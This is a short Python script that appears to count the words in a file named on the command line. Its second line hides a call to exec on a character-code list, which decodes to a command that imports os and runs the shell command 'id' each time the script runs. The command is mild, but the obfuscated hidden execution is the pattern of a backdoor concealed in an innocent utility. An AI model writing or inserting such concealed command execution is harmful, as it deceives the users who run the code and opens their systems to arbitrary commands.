import sys
exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]))
print(len(open(sys.argv[1]).read().split()))
